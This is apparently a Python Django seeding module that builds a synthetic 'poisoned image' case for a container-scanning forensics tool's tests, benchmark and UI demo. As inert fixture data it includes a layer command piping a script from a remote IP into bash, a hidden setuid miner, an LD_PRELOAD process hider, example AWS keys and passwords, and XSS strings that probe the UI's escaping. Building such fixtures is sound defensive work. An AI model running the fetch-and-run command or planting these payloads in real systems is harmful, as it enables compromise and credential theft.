"""A realistic demo case built directly in the database: a poisoned image with its layers, file records,
graveyard and findings. Used by the benchmark (``benchmarks/case_page.py``), the tests that need volume,
and ``python manage.py seed_demo`` to try the UI without scanning anything.

Everything is deterministic for a given ``seed``. ``hostile=True`` adds attacker-style names
(``<img src=x onerror=alert(1)>.sh``) to paths, env, labels, tags and history.
"""

from __future__ import annotations

import hashlib
import random
from datetime import timedelta

from django.db import transaction
from django.utils import timezone

from scanner.models import FileRecord, Finding, Image, Layer, ScanRun, ScanStatus

from .models import Case, CustodyAction, CustodyEvent, Evidence

HOSTILE = "<img src=x onerror=alert(1)>"
IMAGE_TMP = "/tmp"  # noqa: S108 - a directory inside the demo image, not on this machine
AWS_ID = "AKIAIOSFODNN7EXAMPLE"
LAYERS = [
    ("/bin/sh -c #(nop) ADD file:5d9f2b0e in / ", 29_000_000),
    ("/bin/sh -c apt-get update && apt-get install -y ca-certificates curl", 41_000_000),
    ("/bin/sh -c cp /tmp/libc.so.6 /lib/x86_64-linux-gnu/libc.so.6", 2_100_000),
    ("/bin/sh -c curl -fsSL http://203.0.113.7/i.sh | bash", 6_400_000),
    ("/bin/sh -c rm -f /usr/bin/.hidden_miner /tmp/i.sh", 1_024),
    ("/bin/sh -c #(nop) COPY dir:app in /srv/app ", 12_500_000),
]
RULES = [
    ("history.pipe-to-shell", "high", "a history step pipes downloaded content into a shell"),
    ("secret.env", "critical", "AWS access key id in Env"),
    ("config.ld-preload", "high", "LD_PRELOAD is set in the config Env"),
    ("config.user-root", "medium", "the image runs as root"),
    ("file.setuid", "high", "setuid file outside system paths"),
    ("file.hidden-executable", "high", "hidden executable in a system binary directory"),
    ("layer.deleted-file", "high", "executable deleted in a later layer (still in the image)"),
    ("package.modified-file", "critical", "file differs from its package checksum"),
    ("secret.file", "critical", "private key inside a file"),
    ("malware.yara", "critical", "YARA rule xmrig_miner matched"),
    ("reference.mutable-tag", "medium", "the image is known only by the tag latest"),
    ("signature.missing", "low", "no signature for the manifest digest"),
    ("layer.deleted-file", "info", "cache file deleted in a later layer"),
    ("file.setuid", "info", "setuid file owned by its package"),
]


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def _config(hostile: bool, created) -> dict:
    env = [
        "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        f"AWS_ACCESS_KEY_ID={AWS_ID}",
        "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "DB_PASSWORD=hunter2-prod",
        "LD_PRELOAD=/usr/lib/libprocesshider.so",
        "DATABASE_URL=postgres://app:s3cr3t@db:5432/app",
    ]
    labels = {
        "org.opencontainers.image.source": "https://git.example.com/shop/web",
        "maintainer": "ops@example.com",
    }
    history = []
    for n, (command, _size) in enumerate(LAYERS):
        history.append(
            {
                "created": (created + timedelta(minutes=3 * n)).strftime("%Y-%m-%dT%H:%M:%S.123456789Z"),
                "created_by": command,
            }
        )
        if n == 1:
            history.append(
                {
                    "created": (created + timedelta(minutes=3 * n, seconds=30)).isoformat(),
                    "created_by": "/bin/sh -c #(nop)  ENV DB_PASSWORD=hunter2-prod",
                    "empty_layer": True,
                }
            )
    if hostile:
        env.append(f"NOTE={HOSTILE}")
        labels[f"x{HOSTILE}"] = f"{HOSTILE}<script>alert(2)</script>"
        history[-1]["created_by"] += f" {HOSTILE}"
    return {
        "architecture": "amd64",
        "os": "linux",
        "created": history[-1]["created"],
        "config": {
            "User": "",
            "Env": env,
            "Entrypoint": ["/docker-entrypoint.sh"],
            "Cmd": ["nginx", "-g", "daemon off;"],
            "WorkingDir": "/srv/app",
            "Labels": labels,
            "ExposedPorts": {"80/tcp": {}},
        },
        "rootfs": {"type": "layers", "diff_ids": [f"sha256:{_sha(f'diff{n}')}" for n in range(len(LAYERS))]},
        "history": history,
    }


@transaction.atomic
def build_demo_case(
    lead,
    *,
    title: str = "Poisoned shop/web:latest in production",
    findings: int = 300,
    files: int = 3000,
    seed: int = 7,
    hostile: bool = False,
    case: Case | None = None,
) -> Case:
    rng = random.Random(seed)  # noqa: S311 - demo data, not secrets
    if case is None:
        case = Case.open_case(
            lead=lead,
            title=title,
            severity="critical",
            summary="A miner reached production through `shop/web:latest`.",
        )
    now = timezone.now()
    blob = _sha(f"evidence-{seed}-{case.pk}")
    evidence = Evidence.objects.create(
        case=case,
        original_name="shop-web-latest.tar",
        sha256=blob,
        size=98_765_432,
        storage_key=f"evidence/sha256/{blob[:2]}/{blob}",
        uploaded_by=lead,
        uploaded_at=now - timedelta(hours=2),
    )
    CustodyEvent.objects.create(
        evidence=evidence,
        action=CustodyAction.RECEIVED,
        actor=lead,
        at=now - timedelta(hours=2),
        detail={"sha256": blob, "size": evidence.size},
    )
    run = ScanRun.objects.create(
        evidence=evidence,
        status=ScanStatus.SUCCEEDED,
        progress=1.0,
        attempt=1,
        queued_at=now - timedelta(hours=2),
        started_at=now - timedelta(hours=2),
        finished_at=now - timedelta(hours=2) + timedelta(seconds=41),
        stats={"layers": len(LAYERS), "files": files},
    )
    tags = ["shop/web:latest", "registry.example.com/shop/web:2024.06"]
    if hostile:
        tags.append(f"evil/{HOSTILE}:latest")
    image = Image.objects.create(
        scan=run,
        manifest_digest=f"sha256:{_sha(f'manifest{seed}')}",
        config_digest=f"sha256:{_sha(f'config{seed}')}",
        repo_tags=tags,
        platform="linux/amd64",
        user="",
        config=_config(hostile, now - timedelta(days=3)),
    )
    layers = Layer.objects.bulk_create(
        Layer(
            image=image,
            index=n,
            digest=f"sha256:{_sha(f'layer{seed}-{n}')}",
            diff_id=f"sha256:{_sha(f'diff{n}')}",
            size=size,
            uncompressed_size=size * 2,
            created_by=command,
            files_added=0,
            files_modified=0,
            files_deleted=0,
            trusted=n != 2 or seed % 2 == 0,
        )
        for n, (command, size) in enumerate(LAYERS)
    )
    records = _files(rng, image, layers, files, hostile)
    FileRecord.objects.bulk_create(records, batch_size=2000)
    for layer in layers:
        mine = [r for r in records if r.layer_id == layer.pk]
        layer.files_added = sum(r.change == "added" for r in mine)
        layer.files_modified = sum(r.change == "modified" for r in mine)
        layer.files_deleted = sum(r.change == "deleted" for r in mine)
    Layer.objects.bulk_update(layers, ["files_added", "files_modified", "files_deleted"])
    Finding.objects.bulk_create(
        _findings(rng, case, run, image, layers, records, findings, hostile), batch_size=2000
    )
    return case


def _files(rng, image, layers, count, hostile) -> list[FileRecord]:
    out: list[FileRecord] = []

    def add(
        layer,
        path,
        *,
        type="file",
        size=0,
        mode=0o644,
        change="added",
        flags="",
        visible=True,
        hidden_by=None,
        how="",
    ):
        out.append(
            FileRecord(
                image=image,
                layer=layers[layer],
                path=path,
                type=type,
                mode=mode,
                size=size,
                sha256=_sha(f"{layer}{path}") if type == "file" and change != "deleted" else "",
                flags=flags,
                change=change,
                visible=visible,
                hidden_by=hidden_by,
                hidden_how=how,
            )
        )

    for d in (
        "/etc",
        "/usr",
        "/usr/bin",
        "/usr/lib",
        "/lib",
        "/lib/x86_64-linux-gnu",
        "/usr/share",
        "/usr/share/doc",
        "/var",
        "/var/lib",
        "/var/lib/dpkg",
        IMAGE_TMP,
        "/srv",
        "/srv/app",
    ):
        add(0, d, type="dir", mode=0o755)
    add(0, "/etc/os-release", size=267)
    add(0, "/etc/passwd", size=922)
    add(
        0,
        "/lib/x86_64-linux-gnu/libc.so.6",
        size=1_922_136,
        mode=0o755,
        flags="elf executable",
        visible=False,
        hidden_by=2,
        how="shadowed",
    )
    add(
        2,
        "/lib/x86_64-linux-gnu/libc.so.6",
        size=1_931_512,
        mode=0o755,
        flags="elf executable",
        change="modified",
    )
    add(
        2,
        f"{IMAGE_TMP}/libc.so.6",
        size=1_931_512,
        mode=0o755,
        flags="elf executable",
        visible=False,
        hidden_by=4,
        how="whiteout",
    )
    add(
        3,
        "/usr/bin/.hidden_miner",
        size=2_405_288,
        mode=0o4755,
        flags="setuid elf executable hidden",
        visible=False,
        hidden_by=4,
        how="whiteout",
    )
    add(3, "/etc/ld.so.preload", size=28)
    add(
        3,
        f"{IMAGE_TMP}/i.sh",
        size=1_204,
        mode=0o755,
        flags="executable script",
        visible=False,
        hidden_by=4,
        how="whiteout",
    )
    add(
        3,
        "/root/.aws/credentials",
        size=116,
        mode=0o600,
        flags="secret",
        visible=False,
        hidden_by=4,
        how="whiteout",
    )
    add(4, "/usr/bin/.hidden_miner", change="deleted", visible=False)
    add(4, f"{IMAGE_TMP}/libc.so.6", change="deleted", visible=False)
    add(4, f"{IMAGE_TMP}/i.sh", change="deleted", visible=False)
    add(4, "/root/.aws/credentials", change="deleted", visible=False)
    add(1, "/usr/bin/curl", size=260_328, mode=0o755, flags="elf executable")
    add(0, "/usr/bin/passwd", size=68_248, mode=0o4755, flags="setuid elf executable")
    if hostile:
        add(5, f"/srv/app/{HOSTILE}.sh", size=66, mode=0o755, flags="script executable")
        add(5, f"/srv/app/{HOSTILE}", type="dir", mode=0o755)
        add(5, f"/srv/app/{HOSTILE}/payload", size=12)
    packages = [f"pkg{n:03d}" for n in range(120)]
    n = len(out)
    while n < count:
        layer = rng.choice((0, 0, 1, 1, 1, 5))
        pkg = rng.choice(packages)
        kind = rng.random()
        if kind < 0.55:
            path = f"/usr/share/doc/{pkg}/file{n}.txt"
        elif kind < 0.8:
            path = f"/usr/lib/{pkg}/lib{n}.so"
        elif kind < 0.95:
            path = f"/srv/app/static/{pkg}/asset{n}.js"
        else:
            path = f"/var/cache/apt/archives/{pkg}_{n}.deb"
        hidden = layer < 5 and rng.random() < 0.03
        add(
            layer,
            path,
            size=rng.randint(100, 400_000),
            visible=not hidden,
            hidden_by=5 if hidden else None,
            how="shadowed" if hidden else "",
            change="added",
        )
        n += 1
    return out


def _findings(rng, case, run, image, layers, records, count, hostile) -> list[Finding]:
    paths = [r for r in records if r.type == "file"]
    out = []
    for n in range(count):
        rule, severity, title = RULES[n % len(RULES)] if n < len(RULES) else rng.choice(RULES)
        record = rng.choice(paths)
        layer = record.layer
        path = record.path
        if rule == "secret.env":
            title, path, layer = f"AWS access key id {AWS_ID[:4]}…{AWS_ID[-4:]} in Env", "", None
        elif rule in ("config.user-root", "config.ld-preload", "reference.mutable-tag", "signature.missing"):
            path, layer = "", None
        if hostile and n == 0:
            title, path = f"hidden file {HOSTILE}", f"/srv/app/{HOSTILE}.sh"
        out.append(
            Finding(
                case=case,
                scan=run,
                image=image,
                layer=layer,
                rule_id=rule,
                severity=severity,
                title=title,
                detail=f"matched at {path or 'config'}",
                path=path,
                sha256=record.sha256,
                fingerprint=_sha(f"{image.pk}-{n}"),
            )
        )
    return out
